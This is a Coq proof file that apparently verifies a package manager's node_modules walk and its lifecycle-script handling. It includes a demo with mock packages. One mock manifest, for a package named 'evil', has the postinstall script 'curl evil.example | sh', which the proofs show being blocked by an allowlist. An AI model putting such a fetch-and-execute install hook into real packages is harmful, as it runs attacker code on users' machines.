Lemma finds_fold {A} (f : Walk -> A -> Eff W Walk) l : (forall st a, good_walk st -> finds (f st a)) ->
  forall st, good_walk st -> finds (eff_fold f st l).
Proof. intros Hf. induction l as [|a l IH]; intros st Hst; cbn; [by apply finds_ret|]. apply finds_then; [by apply Hf|done]. Qed.

Lemma inspect_finds root st : good_walk st -> visited root st = false ->
  finds (inspect config workspace root (path_push root "package.json") (visit root st)).
Proof.
  intros Hst Hv. pose proof (good_visit root st Hst) as Hst'.
  unfold inspect. apply finds_world. intros w0 Hw0. apply finds_lift_bind. intros value Hvalue.
  destruct (package_name value ≫= non_empty) as [name|] eqn:Hname; [|by apply finds_ret].
  destruct (package_scripts value) as [scripts|] eqn:Hscripts; [|by apply finds_ret].
  case_match; [by apply finds_ret|]. case_match eqn:Hpolicy; [by apply finds_ret, good_blocked|]. apply negb_false_iff in Hpolicy.
  apply finds_lift_bind. intros entry _. apply finds_bind; [keep|]. intros restored.
  assert (Hname' : package_name value = Some name).
  { destruct (package_name value) as [n|]; cbn in Hname; [|done]. unfold non_empty in Hname. by destruct (is_empty n); simplify_eq. }
  assert (Hpush : forall job, job_pkg_root job = root -> job_name job = name -> job_scripts job = scripts ->
    finds (mret (push_job job (visit root st)))).
  { intros job <- Hn Hs. apply finds_ret, good_push; [|done|done]. split; [by rewrite Hn|].
    exists w0, value. by rewrite Hn, Hs. }
  destruct restored as [[]|]; (by apply finds_ret) || by apply Hpush.
Qed.

Lemma entry_finds walk scan_dir st entry :
  (forall dir st, good_walk st -> finds (walk dir st)) -> good_walk st -> finds (walk_entry config workspace walk scan_dir st entry).
Proof.
  intros Hwalk Hst. unfold walk_entry. apply finds_lift_bind. intros [name kind] _. apply finds_world. intros w _.
  case_match; [by apply finds_ret|]. case_match; [|by apply Hwalk]. case_match eqn:Hv; [by apply finds_ret|].
  apply finds_then; [by apply inspect_finds|]. intros st' Hst'. apply finds_world. intros w' _.
  case_match; [by apply Hwalk|by apply finds_ret].
Qed.

Lemma walk_finds fuel : forall dir st, good_walk st -> finds (walk_node_modules config workspace fuel dir st).
Proof.
  induction fuel as [|fuel IH]; intros dir st Hst; [apply finds_fail|].
  cbn [walk_node_modules]. apply finds_world. intros w _. case_match; [by apply finds_ret|].
  apply finds_lift_bind. intros entries _. apply finds_fold; [|by apply good_visit]. intros st' entry Hst'. by apply entry_finds.
Qed.
End found.

(** ** An installation *)
Section installation.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{HashIter} `{CommandLog W}
  (config : SnpmConfig) (workspace : option Workspace).

Lemma script_of_plan jobs e : e ∈ jobs_plan jobs ->
  exists job key, job ∈ jobs /\ e.1 = job_pkg_root job /\ key ∈ DEPENDENCY_LIFECYCLE_SCRIPT_NAMES /\
    job_scripts job !! key = Some (JString e.2).
Proof.
  unfold jobs_plan. rewrite list_elem_of_In, in_concat. setoid_rewrite <-list_elem_of_In.
  intros (l & (job & -> & Hj%chunks_are_jobs)%list_elem_of_fmap & Hl).
  unfold job_plan, script_plan in Hl. apply list_elem_of_fmap in Hl as ([key cmd] & -> & Hk).
  apply list_elem_of_omap in Hk as (key' & Hkey & Hs). exists job, key'. split_and!; [done|done|done|]. cbn.
  destruct (job_scripts job !! key') as [[]|]; try done. destruct (is_empty _); by simplify_eq.
Qed.


(** C24: Where the directories are finitely many and restoring a package makes no
    others, the walk of a project ends: as many rounds as there are directories are
    enough, and more of them change nothing. *)
Theorem walk_ends (D : gset (list (nat * string))) (I : W -> Prop) dir more w :
  finite_directories D I -> I w -> is_dir (view w) dir = true -> size D <= directory_count w ->
  walk_node_modules config workspace (S (directory_count w) + more) dir empty_walk w =
  walk_node_modules config workspace (S (directory_count w)) dir empty_walk w.
Proof.
  intros Hfin HI Hd Hsize. assert (unvisited D empty_walk <= size D) by (apply subseteq_size; set_solver).
  apply (walk_agree config workspace D I Hfin); [done|done|lia..].
Qed.
End installation.

(** ** A project with three packages *)
Module LifecycleDemo.
#[local] Existing Instance ScriptsDemo.sorted_iter.
#[local] Existing Instance NodeDemo.linux.
#[local] Existing Instance NodeDemo.digests.
#[local] Existing Instance NodeDemo.fields.

(** A manifest is the name of its package. *)
Definition package (name : string) (scripts : list (string * string)) (deps : list string) : json :=
  JObject {["name" := JString name; "scripts" := JObject (JString <$> list_to_map scripts);
            "dependencies" := JObject (list_to_map ((fun dep => (dep, JString "*")) <$> deps))]}.
#[local] Instance manifests : JsonCrate := {| json_from_str data :=
  if data == "esbuild" then Ok (package "esbuild" [("postinstall", "node install.js")] ["core"])
  else if data == "core" then Ok (package "core" [("install", "make"); ("preinstall", "./configure"); ("test", "make test")] [])
  else if data == "evil" then Ok (package "evil" [("postinstall", "curl evil.example | sh")] [])
  else Err "expected value" |}.
#[local] Instance no_archives : TarBuilder := {|
  Builder := unit; builder_new := tt; append_link _ _ _ := Ok tt; append_directory _ _ _ := Ok tt;
  append_file _ _ _ _ := Ok tt; builder_finish _ := Ok ε |}.

Definition tree : list (string * list string) :=
  [("/p/node_modules", ["esbuild"; "core"; "evil"; ".bin"]); ("/p/node_modules/.bin", []);
   ("/p/node_modules/esbuild", ["package.json"; "node_modules"]); ("/p/node_modules/esbuild/node_modules", ["core"]);
   ("/p/node_modules/esbuild/node_modules/core", []);
   ("/p/node_modules/core", ["package.json"]); ("/p/node_modules/evil", ["package.json"])].
Definition files : list (string * string) :=
  [("/p/node_modules/esbuild/package.json", "esbuild"); ("/p/node_modules/core/package.json", "core");
   ("/p/node_modules/evil/package.json", "evil")].
(** One of the directories is a link. *)
Definition real (p : string) : string := if p == "/p/node_modules/esbuild/node_modules/core" then "/p/node_modules/core" else p.

Definition find_in {A} (table : list (string * A)) (p : string) : result string A :=
  ok_or "No such file or directory" (list_to_map (M := gmap string A) table !! p).
Definition stat_of (p : string) : result string Stat :=
  match find_in files p with Ok _ => Ok (WorldDemo.stat TFile) | Err _ => _ ← find_in tree p; Ok (WorldDemo.stat TDir) end.
Definition project_view : FileSystem := {|
  fs_lstat := stat_of; fs_stat := stat_of; fs_bytes := find_in files; fs_read_link _ := Err "not a link";
  fs_entries p := match find_in tree p with Ok names => Ok (map (fun name => Ok (name, Ok TDir)) names) | Err e => Err e end |}.

(** The world is the log; the file system stays as it is. *)
Definition World : Type := list Command.
Definition nothing : IoOp World := fun w => (Ok tt, w).
#[local] Instance fs : FsWorld World := {|
  view _ := project_view; world_disk _ := disk_with ∅; put_disk _ w := w;
  fs_create_dir_all _ := nothing; fs_remove_file _ := nothing; fs_remove_dir _ := nothing; fs_remove_dir_all _ := nothing;
  fs_rename _ _ := nothing; fs_symlink _ _ := nothing; fs_hard_link _ _ := nothing; fs_reflink _ _ := nothing;
  fs_copy _ _ := nothing; fs_mode _ _ := Ok 493%N; fs_set_mode _ _ := nothing; fs_device _ _ := Ok 0%N;
  error_not_found _ := true; error_already_exists _ := false; fs_depth _ _ := 4; process_id _ := 7%N;
  link_memory _ := fresh_memory None; put_link_memory _ w := w |}.
#[local] Instance node : NodeWorld World := {|
  node_fs := fs; node_env _ name := if name == "PATH" then Some "/usr/bin" else None; system_now _ := 0%Z;
  node_client := mret tt; node_get _ w := (Err "offline", w); system_node _ := None |}.
#[local] Instance scripting : ScriptWorld World := {|
  sw_node := node; remote_client := mret tt; remote_get _ _ w := (Err "offline", w);
  remote_put _ _ _ w := (Err "offline", w); archive_unpack _ _ := nothing |}.
(** [make] fails where it should. *)
#[local] Instance lifecycle (failing : string) : LifecycleWorld World := {|
  lw_script := scripting;
  canonicalize_path _ p := Ok (real p);
  run_command c w := (Ok (negb (cmd_script c == failing), Some 2%Z), w ++ [c]);
  temp_dir prefix w := (Ok (path_push "/tmp" prefix), w);
  current_exe _ := None; init_cwd _ := Some "/p"; env_config _ := config_for_tests;
  available_parallelism _ := Some 8%N; thread_pool _ := mret tt; directory_count _ := 7 |}.
#[local] Instance log failing : @CommandLog World (lifecycle failing).
Proof. refine {| commands w := w |}; done. Defined.

Definition config : SnpmConfig := config_for_tests.
Definition workspace : Workspace :=
  {| w_root := "/p"; w_projects := [];
     w_config := {| wc_packages := []; wc_catalog := ∅; wc_catalogs := ∅;
                    wc_only_built_dependencies := ["esbuild"; "core"]; wc_ignored_built_dependencies := [];
                    wc_disable_global_virtual_store_for_packages := None; wc_hoisting := None |} |}.
Definition install (failing : string) : Result (list string) * World :=
  run_install_scripts_for_projects (H5 := lifecycle failing) config (Some workspace) ["/p"; "/q"] [].

(** [core] first, which [esbuild] depends on; the other package is blocked. *)
Example installed_scripts :
  install ε = (Ok ["evil"], (install ε).2) /\
  plain <$> (install ε).2 = [("/p/node_modules/core", "./configure"); ("/p/node_modules/core", "make");
                             ("/p/node_modules/esbuild", "node install.js")].
Proof. split; vm_refl. Qed.
Example failed_scripts :
  (install "make").1 = Err (ScriptFailed "core:install" 2%Z) /\
  plain <$> (install "make").2 = [("/p/node_modules/core", "./configure"); ("/p/node_modules/core", "make")].
Proof. split; vm_refl. Qed.


Definition directories : gset (list (nat * string)) := list_to_set (path_key <$> tree.*1).

Lemma is_dir_tree p : is_dir project_view p = true -> p ∈ tree.*1.
Proof.
  unfold is_dir. cbn. unfold stat_of. destruct (find_in files p); [done|]. unfold find_in.
  destruct (list_to_map tree !! p) as [names|] eqn:E; [|done]. intros _.
  apply elem_of_list_to_map_2 in E. exact (list_elem_of_fmap_2 fst tree (p, names) E).
Qed.
Lemma tree_is_finite : finite_directories (H4 := lifecycle ε) directories (fun _ => True).
Proof.
  split; [|done]. intros w p _ Hp%is_dir_tree. exists (real p). split; [done|].
  assert (Hall : Forall (fun p => path_key (real p) ∈ directories /\ is_dir project_view (real p) = true) tree.*1)
    by (apply (bool_decide_unpack _); vm_compute; exact I).
  rewrite Forall_forall in Hall. by apply Hall.
Qed.

Lemma walk_ends_witness :
  walk_node_modules (H5 := lifecycle ε) config (Some workspace) (8 + 5) "/p/node_modules" empty_walk [] =
  walk_node_modules (H5 := lifecycle ε) config (Some workspace) 8 "/p/node_modules" empty_walk [].
Proof.
  apply (walk_ends (H5 := lifecycle ε) config (Some workspace) directories (fun _ => True) "/p/node_modules" 5 [] tree_is_finite I);
    vm_compute; [reflexivity|lia].
Defined.
End LifecycleDemo.
